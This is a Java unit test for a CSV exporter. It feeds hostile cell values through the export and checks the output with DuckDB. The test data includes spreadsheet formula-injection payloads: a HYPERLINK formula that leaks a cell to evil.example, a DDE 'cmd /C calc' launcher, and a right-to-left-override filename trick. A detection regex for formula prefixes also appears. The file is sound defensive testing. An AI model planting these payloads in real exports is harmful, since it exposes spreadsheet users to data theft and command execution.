package io.winnow.report.csv;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.winnow.core.Column;
import io.winnow.core.RandomRows;
import io.winnow.core.Row;
import io.winnow.core.TableFile;
import io.winnow.report.PaperRun;
import io.winnow.run.RunDirectory;
import io.winnow.run.RunLocation;
import io.winnow.table.SafeCell;
import io.winnow.table.TableWriter;
import io.winnow.table.Tables;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import java.util.Optional;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile ledgers, written as CSV and read back by DuckDB, which shares no line with ours. */
class CsvFormatTest {
  private static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1)",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(A1:A9)",
          "\t=1",
          "\r=1",
          "\ufeff=1",
          "  ＝1",
          "a;=1",
          "quote \" quote \"\" , comma",
          "line\nbreak\r\n=1",
          "\u202egpj.exe",
          "\ud83d\ude00 \u0000 nul",
          "'",
          "\"",
          "x".repeat(100_000),
          "");

  @TempDir Path out;
  private RunDirectory directory;
  private PaperRun run;

  @BeforeEach
  void open() throws IOException {
    directory =
        new RunDirectory(RunLocation.of(out.toString(), Optional.empty(), Optional.empty()));
    run = new PaperRun();
  }

  /** Writes a unit's ledger; the manifest says {@code said} rows of it. */
  private void ledger(String unit, List<Row> rows, long said) throws IOException {
    String name = unit + "-0123456789abcdef-000000000001.0.parquet";
    try (TableWriter writer =
        new TableWriter(Tables.LEDGER, directory.table("ledger").create(name, false))) {
      for (Row row : rows) {
        writer.write(row);
      }
    }
    try (InputStream in = directory.table("ledger").open(name)) {
      run.file(new TableFile("ledger", name, 1, RunDirectory.sha256(in), said, "", ""));
    }
  }

  private byte[] csv(boolean gzip, RowProgress progress) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    new CsvFormat(directory, gzip, progress).write(run.data(), bytes);
    return bytes.toByteArray();
  }

  private static Row hostileRow(String text) {
    Row.Builder row = Row.of(Tables.LEDGER);
    Row.Builder finding = Row.of(Tables.FINDINGS);
    for (Column column : Tables.LEDGER.columns()) {
      switch (column.type()) {
        case STRING -> row.set(column.name(), text);
        case LONG -> row.set(column.name(), -5L);
        case INT -> row.set(column.name(), -6);
        case DOUBLE -> row.set(column.name(), -0.25);
        default -> {}
      }
    }
    for (Column column : Tables.FINDINGS.columns()) {
      if (column.type() == io.winnow.core.ColumnType.STRING) {
        finding.set(column.name(), text);
      }
    }
    finding.set("score", 0.5).set("quality", 7).set("alongside", true);
    return row.set("findings", List.of(finding.build())).build();
  }

  private static List<Row> hostile() {
    return HOSTILE.stream().map(CsvFormatTest::hostileRow).toList();
  }

  private static List<List<String>> readByDuckDb(Path csv) throws SQLException {
    List<List<String>> rows = new ArrayList<>();
    try (Connection duck = DriverManager.getConnection("jdbc:duckdb:");
        Statement statement = duck.createStatement()) {
      statement.execute("SET autoinstall_known_extensions=false");
      String file = csv.toString().replace("'", "''");
      try (ResultSet found =
          statement.executeQuery(
              "FROM read_csv('"
                  + file
                  + "', header=true, all_varchar=true, delim=',', quote='\"', escape='\"',"
                  + " strict_mode=true, max_line_size=5000000)")) {
        int columns = found.getMetaData().getColumnCount();
        List<String> names = new ArrayList<>();
        for (int i = 1; i <= columns; i++) {
          names.add(found.getMetaData().getColumnName(i));
        }
        rows.add(names);
        while (found.next()) {
          List<String> row = new ArrayList<>();
          for (int i = 1; i <= columns; i++) {
            row.add(Objects.requireNonNullElse(found.getString(i), ""));
          }
          rows.add(row);
        }
      }
    }
    return rows;
  }

  @Test
  void anotherReaderFindsEveryCellAsItWasMeant() throws IOException, SQLException {
    List<Row> rows = new ArrayList<>(hostile());
    RandomRows random = new RandomRows(11);
    for (int i = 0; i < 300; i++) {
      rows.add(random.row(Tables.LEDGER));
    }
    ledger("b", rows.subList(0, 100), 100);
    ledger("a", rows.subList(100, rows.size()), rows.size() - 100);
    Path file = out.resolve("ledger.csv");
    Files.write(file, csv(false, RowProgress.NONE));

    List<List<String>> found = readByDuckDb(file);
    assertEquals(Tables.LEDGER.columns().stream().map(Column::name).toList(), found.get(0));
    List<Row> inOrder = new ArrayList<>(rows.subList(100, rows.size()));
    inOrder.addAll(rows.subList(0, 100));
    assertEquals(inOrder.size(), found.size() - 1);
    for (int i = 0; i < inOrder.size(); i++) {
      compare(inOrder.get(i), found.get(i + 1));
    }
  }

  private static void compare(Row row, List<String> cells) throws IOException {
    for (int i = 0; i < cells.size(); i++) {
      Column column = Tables.LEDGER.columns().get(i);
      String cell = cells.get(i);
      Object value = row.value(i);
      switch (column.type()) {
        case STRING -> {
          assertEquals(SafeCell.of(value), cell, column.name());
          assertFalse(cell.matches("[\\s\ufeff]*[=+@＝＋－＠\\-].*"), column.name());
        }
        case ROWS -> compareFindings((List<?>) Objects.requireNonNull(value), cell);
        case DOUBLE ->
            assertEquals(value, cell.isEmpty() ? null : Double.valueOf(cell), column.name());
        default -> assertEquals(value == null ? "" : value.toString(), cell, column.name());
      }
      assertTrue(cell.length() <= SafeCell.MOST, column.name());
      assertTrue(cell.chars().noneMatch(c -> c < ' ' || c == 0x202e), column.name());
    }
  }

  private static void compareFindings(List<?> findings, String cell) throws IOException {
    JsonNode json = new ObjectMapper().readTree(cell);
    assertEquals(findings.size(), json.size());
    for (int i = 0; i < findings.size(); i++) {
      Row finding = (Row) findings.get(i);
      for (Column column : Tables.FINDINGS.columns()) {
        Object value = finding.value(column.name());
        assertEquals(value != null, json.get(i).has(column.name()), column.name());
        if (value instanceof Number number) {
          assertEquals(number.doubleValue(), json.get(i).get(column.name()).doubleValue());
        }
      }
    }
  }

  @Test
  void aRowIsOneLine() throws IOException {
    ledger("a", hostile(), HOSTILE.size());
    String text = new String(csv(false, RowProgress.NONE), StandardCharsets.UTF_8);
    assertTrue(text.endsWith("\r\n"));
    assertEquals(HOSTILE.size() + 1, text.split("\r\n").length);
    assertFalse(text.replace("\r\n", "").contains("\n"));
    assertTrue(text.startsWith("item_token,item_id,item_kind,shard,offset,"), "no mark before it");
  }

  @Test
  void compressedItIsTheSameAndTheSameAgain() throws IOException {
    ledger("a", hostile(), HOSTILE.size());
    byte[] plain = csv(false, RowProgress.NONE);
    byte[] small = csv(true, RowProgress.NONE);
    assertArrayEquals(small, csv(true, RowProgress.NONE));
    try (GZIPInputStream in = new GZIPInputStream(new ByteArrayInputStream(small))) {
      assertArrayEquals(plain, in.readAllBytes());
    }
  }

  @Test
  void findingsThatDoNotFitAreCounted() throws IOException {
    Row finding =
        Row.of(Tables.FINDINGS)
            .set("verdict", "excluded")
            .set("class", "policy")
            .set("reason", "list-match")
            .set("rule_id", "r")
            .set("rollout", "enforce")
            .set("category", "\"=;\u202e".repeat(500))
            .build();
    List<Row> many = new ArrayList<>(java.util.Collections.nCopies(200, finding));
    String cell = FindingsCell.of(many);
    JsonNode json = new ObjectMapper().readTree(cell);
    assertTrue(cell.length() <= SafeCell.MOST);
    assertTrue(json.size() > 10, () -> "only " + json.size());
    assertEquals(200 - (json.size() - 1), json.get(json.size() - 1).get("left_out").asInt());
    assertEquals("[]", FindingsCell.of(List.of()));
  }

  @Test
  void theLongestFindingStillFits() throws IOException {
    for (String text : List.of("\"", ";=", "\u202e", "\\", "\ud83d\ude00")) {
      Row.Builder finding = Row.of(Tables.FINDINGS);
      for (Column column : Tables.FINDINGS.columns()) {
        if (column.type() == io.winnow.core.ColumnType.STRING) {
          finding.set(column.name(), text.repeat(5_000));
        }
      }
      JsonNode json = new ObjectMapper().readTree(FindingsCell.of(List.of(finding.build())));
      assertTrue(json.get(0).has("review_note"), text);
    }
  }

  @Test
  void progressEndsAtTheWhole() throws IOException {
    ledger("a", hostile(), HOSTILE.size());
    List<long[]> seen = new ArrayList<>();
    csv(false, (done, total) -> seen.add(new long[] {done, total}));
    assertArrayEquals(new long[] {HOSTILE.size(), HOSTILE.size()}, seen.get(seen.size() - 1));
  }

  @Test
  void aLedgerThatIsNotWhatTheManifestSaysIsNamedWithoutItsValues() throws IOException {
    ledger("a", hostile(), 3);
    IOException more = assertThrows(IOException.class, () -> csv(false, RowProgress.NONE));
    assertTrue(more.getMessage().contains("has 17 rows, the manifest says 3"), more.getMessage());

    Path file = out.resolve("ledger/a-0123456789abcdef-000000000001.0.parquet");
    byte[] bytes = Files.readAllBytes(file);
    for (int length : new int[] {0, bytes.length / 2}) {
      Files.write(file, Arrays.copyOf(bytes, length));
      IOException cut = assertThrows(IOException.class, () -> csv(false, RowProgress.NONE));
      assertTrue(cut.getMessage().contains("is not the file that was written"), cut.getMessage());
      assertFalse(cut.getMessage().contains("HYPERLINK"));
    }
    // A ledger of its own that fits: as many rows, and nothing wrong with it.
    RunDirectory other =
        new RunDirectory(
            RunLocation.of(out.resolve("other").toString(), Optional.empty(), Optional.empty()));
    try (TableWriter writer =
        new TableWriter(Tables.LEDGER, other.table("ledger").create("x", false))) {
      for (int i = 0; i < 3; i++) {
        writer.write(hostileRow("another"));
      }
    }
    Files.copy(out.resolve("other/ledger/x"), file, StandardCopyOption.REPLACE_EXISTING);
    ByteArrayOutputStream written = new ByteArrayOutputStream();
    IOException swapped =
        assertThrows(
            IOException.class,
            () -> new CsvFormat(directory, false, RowProgress.NONE).write(run.data(), written));
    assertTrue(
        swapped.getMessage().contains("is not the file that was written"), swapped.getMessage());
    assertFalse(written.toString(StandardCharsets.UTF_8).contains("another"));

    Files.delete(file);
    IOException gone = assertThrows(IOException.class, () -> csv(false, RowProgress.NONE));
    assertTrue(gone.getMessage().contains("is missing"), gone.getMessage());
  }

  @Test
  void theStreamItIsGivenStaysOpen() throws IOException {
    ledger("a", hostile(), HOSTILE.size());
    boolean[] closed = {false};
    OutputStream stream =
        new ByteArrayOutputStream() {
          @Override
          public void close() {
            closed[0] = true;
          }
        };
    new CsvFormat(directory, true, RowProgress.NONE).write(run.data(), stream);
    assertFalse(closed[0]);
  }
}
